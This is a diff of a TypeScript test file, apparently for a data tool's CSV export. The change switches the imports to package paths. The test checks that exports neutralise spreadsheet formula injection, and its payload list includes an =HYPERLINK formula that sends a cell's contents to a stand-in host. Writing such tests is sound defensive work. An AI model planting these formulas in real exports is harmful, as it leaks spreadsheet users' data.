@@ -3,13 +3,11 @@
  * every CSV export writes the data unchanged and reads back the same. Hand-made payloads are the ones OWASP
  * lists (`=HYPERLINK`, `@SUM`, `+`/`-` arithmetic, DDE `=cmd|…`, a leading tab or CR).
  */
+
+import { datasetToNodeEdgeCsv, exportInterop } from "@vernetzt/core/interop";
+import { datasetToCsvFiles, excelSafeCell, parseDataset, startsLikeFormula } from "@vernetzt/core/io";
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
-import { exportInterop } from "../../../packages/core/src/interop/export-interop.js";
-import { datasetToNodeEdgeCsv } from "../../../packages/core/src/interop/node-edge-csv.js";
-import { datasetToCsvFiles } from "../../../packages/core/src/io/csv-export.js";
-import { excelSafeCell, startsLikeFormula } from "../../../packages/core/src/io/excel-safe.js";
-import { parseDataset } from "../../../packages/core/src/io/parse-dataset.js";
 
 const PAYLOADS = [
   '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
